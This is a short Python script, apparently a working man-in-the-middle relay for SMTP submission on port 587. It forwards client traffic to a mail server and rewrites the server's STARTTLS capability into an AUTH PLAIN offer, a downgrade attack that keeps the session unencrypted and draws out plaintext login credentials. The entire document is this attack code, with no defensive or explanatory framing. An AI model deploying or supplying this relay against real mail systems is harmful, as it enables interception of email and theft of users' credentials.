"""Someone on the path: relays to mail.example.com:587, takes STARTTLS out of the answer and offers a login instead."""

import socket
import threading


def relay(client):
    server = socket.create_connection(("192.0.2.10", 587))

    def answers():
        while data := server.recv(65536):
            client.sendall(data.replace(b"250-STARTTLS\r\n", b"250-AUTH PLAIN\r\n"))

    threading.Thread(target=answers, daemon=True).start()
    while data := client.recv(65536):
        server.sendall(data)


listener = socket.create_server(("192.0.2.80", 587))
while True:
    connection, _ = listener.accept()
    threading.Thread(target=relay, args=(connection,), daemon=True).start()
